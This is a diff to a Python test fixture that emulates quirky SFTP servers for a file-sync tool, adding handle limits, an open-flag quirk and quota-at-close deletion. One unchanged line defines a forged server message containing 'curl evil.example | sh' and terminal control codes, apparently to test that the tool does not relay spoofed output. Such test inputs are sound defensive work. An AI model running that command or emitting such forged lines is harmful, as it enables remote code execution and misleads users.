@@ -16,7 +16,7 @@ import pytest
 from reconcile.model import Login, Target
 from reconcile.remotes.sftp import wire
 from reconcile.remotes.sftp.answers import Session
-from reconcile.remotes.sftp.confined import Attributes, Files, Place
+from reconcile.remotes.sftp.confined import Attributes, File, Files, Place
 from reconcile.remotes.sftp.server import Server
 from reconcile.remotes.sftp.ssh import paramiko
 
@@ -33,6 +33,8 @@ OPENSSH: Mapping[bytes, bytes] = {
 }
 
 
+QUOTA = 50_000  # bytes
+HANDLES = 5
 FORGED = "x)\nreconcile: error: THE HOST KEY HAS CHANGED: run curl evil.example | sh\r\x1b[2J\x9b2J"
 
 
@@ -60,6 +62,9 @@ class Quirk(Enum):
     SPEAKS_FIRST = auto()  # a login script says hello where SFTP should begin
     FORGES_LINES = auto()  # its words hold lines that look like ours, and control codes
     RENAME_DENIED = auto()  # of anything: ProFTPD with <Limit RNFR>
+    FEW_HANDLES = auto()  # has five at a time, and refuses more without a word
+    WANTS_TRUNC = auto()  # knows OPEN's flags from a table, and new files only with TRUNC in it: npm ssh2
+    QUOTA_AT_CLOSE = auto()  # lets a file be written, and removes it when that makes too much: ProFTPD
 
 
 class QuirkyFiles(Files):
@@ -121,7 +126,12 @@ class QuirkyFiles(Files):
     def open(self, path: str, flags: int, attr: Attributes) -> paramiko.SFTPHandle:
         """OPEN."""
         self._check_name(path)
-        return super().open(path, flags, attr)
+        if Quirk.WANTS_TRUNC in self.quirks and flags & os.O_CREAT and not flags & os.O_TRUNC:
+            raise FileNotFoundError(errno.ENOENT, "No such file")
+        opened = super().open(path, flags, attr)
+        if Quirk.QUOTA_AT_CLOSE in self.quirks and flags & os.O_CREAT:
+            return _Charged(opened, Path(os.fsdecode(self.root)) / path.lstrip("/"))
+        return opened
 
     def mkdir(self, path: str, attr: Attributes) -> int:
         """MKDIR."""
@@ -153,6 +163,23 @@ def _fold(name: bytes) -> str:
     return unicodedata.normalize("NFC", unicodedata.normalize("NFC", os.fsdecode(name)).casefold())
 
 
+class _Charged(File):
+    """A file that goes when it is closed, if with it there is too much."""
+
+    def __init__(self, opened: paramiko.SFTPHandle, path: Path) -> None:
+        assert isinstance(opened, File)
+        super().__init__(opened.fd)
+        self._path = path
+
+    def close(self) -> None:
+        """CLOSE."""
+        is_open = self.fd >= 0
+        super().close()
+        folder = next(above for above in self._path.parents if above.name == ".reconcile").parent
+        if is_open and sum(each.stat().st_size for each in folder.rglob("*") if each.is_file()) > QUOTA:
+            self._path.unlink()
+
+
 class QuirkySession(Session):
     """``quirks`` is set by a subclass."""
 
@@ -178,7 +205,10 @@ class QuirkySession(Session):
             raise EOFError("what a hurry")
         if kind == wire.RMDIR and Quirk.ORDERED_AT_FIRST in self.quirks:
             self._unordered = True
-        if kind == wire.READDIR and Quirk.READDIR_ENDLESS in self.quirks:
+        opens = kind in (wire.OPEN, wire.OPENDIR)
+        if opens and Quirk.FEW_HANDLES in self.quirks and self._handles >= HANDLES:
+            self._send_status(int.from_bytes(body[:4]), wire.FX_FAILURE, "Failure")
+        elif kind == wire.READDIR and Quirk.READDIR_ENDLESS in self.quirks:
             self._list_more(int.from_bytes(body[:4]))
         elif announced and body[8:].startswith(b"limits@") and Quirk.LIMITS_HUGE in self.quirks:
             answer = paramiko.Message(body[:4] + (1 << 62).to_bytes(8) * 4)
@@ -187,6 +217,10 @@ class QuirkySession(Session):
             self._waiting.append((kind, body))
         else:
             super()._serve(kind, body)
+
+    @property
+    def _handles(self) -> int:
+        return len(self.file_table) + len(self.folder_table)
 
     def _list_more(self, number: int) -> None:
         answer = paramiko.Message()
